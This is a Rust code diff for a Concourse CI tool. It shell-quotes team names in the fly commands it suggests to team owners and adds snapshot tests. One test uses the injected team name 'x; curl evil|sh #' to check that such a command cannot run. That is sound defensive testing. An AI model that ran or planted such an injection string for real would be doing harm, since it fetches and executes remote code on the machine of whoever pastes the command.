@@ -4,7 +4,7 @@ use std::collections::BTreeSet;
 
 use serde_json::{Value, json};
 
-use super::{path, wire::User};
+use super::{fly, path, wire::User};
 
 /// What a call needs.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -138,6 +138,8 @@ fn role_remedy(user: &User, server: &str, team: &str, need: Need) -> String {
     );
     let given = format!("give `{identity}` the role `{role}` in team `{team}`");
     let entry = format!("`- {{name: {role}, {connector}: {{users: [{}]}}}}`", Value::from(user.login()));
+    // Almost anything is the name of a team, and the command is pasted by an owner.
+    let in_shell = fly::shell(team);
     match (team, connector) {
         // `fly set-team`, and files that say the same, know no such users.
         (MAIN, "client" | "") => format!(
@@ -153,9 +155,9 @@ fn role_remedy(user: &User, server: &str, team: &str, need: Need) -> String {
              `fly set-team` gives there does not last"
         ),
         (_, _) => format!(
-            "{given}: as an owner of the team, write its present roles (`fly -t TARGET get-team -n {team}`) and {entry} \
-             under `roles:` in team.yml, then `fly -t TARGET set-team -n {team} --config team.yml`; or {api}. Both \
-             replace the team's roles"
+            "{given}: as an owner of the team, write its present roles (`fly -t TARGET get-team -n {in_shell}`) and \
+             {entry} under `roles:` in team.yml, then `fly -t TARGET set-team -n {in_shell} --config team.yml`; or \
+             {api}. Both replace the team's roles"
         ),
     }
 }
@@ -229,8 +231,24 @@ mod tests {
         let remedy = |user: Value| {
             remedy(&serde_json::from_value(user).unwrap(), "https://ci", "main", Need::Act, &Spelling::Same)
         };
-        insta::assert_snapshot!(remedy(json!({"connector": "local", "user_id": "ci-gateway"})), @"");
-        insta::assert_snapshot!(remedy(json!({"connector": "client", "user_id": "gatehouse"})), @"");
+        insta::assert_snapshot!(
+            remedy(json!({"connector": "local", "user_id": "ci-gateway"})),
+            @r#"give `local:ci-gateway` the role `pipeline-operator` in team `main`: add `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in the file that `CONCOURSE_MAIN_TEAM_CONFIG` of the web nodes names, and restart them. A web node that starts sets the roles of `main` anew from its own settings, so what `fly set-team` gives there does not last"#
+        );
+        insta::assert_snapshot!(
+            remedy(json!({"connector": "client", "user_id": "gatehouse"})),
+            @r#"give `client:gatehouse` the role `pipeline-operator` in team `main`: as an owner of the team, PUT https://ci/api/v1/teams/main with {"auth":{"pipeline-operator":{"groups":[],"users":["client:gatehouse"]},"…":"the present roles"}} (it replaces the team's roles: keep the present ones). A web node that starts sets the roles of `main` anew from its own settings, so better use another team"#
+        );
+    }
+
+    #[test]
+    fn a_shell_takes_the_name_of_a_team_as_one_argument() {
+        let local = user(json!({"connector": "local", "user_id": "ci-gateway"}));
+        let advice =
+            remedy(&local, "https://ci.example.com", "x; curl evil|sh #", Need::Act, &Spelling::Same);
+        for command in ["get-team -n 'x; curl evil|sh #'`", "set-team -n 'x; curl evil|sh #' --config"] {
+            assert!(advice.contains(command), "{advice}");
+        }
     }
 
     #[test]
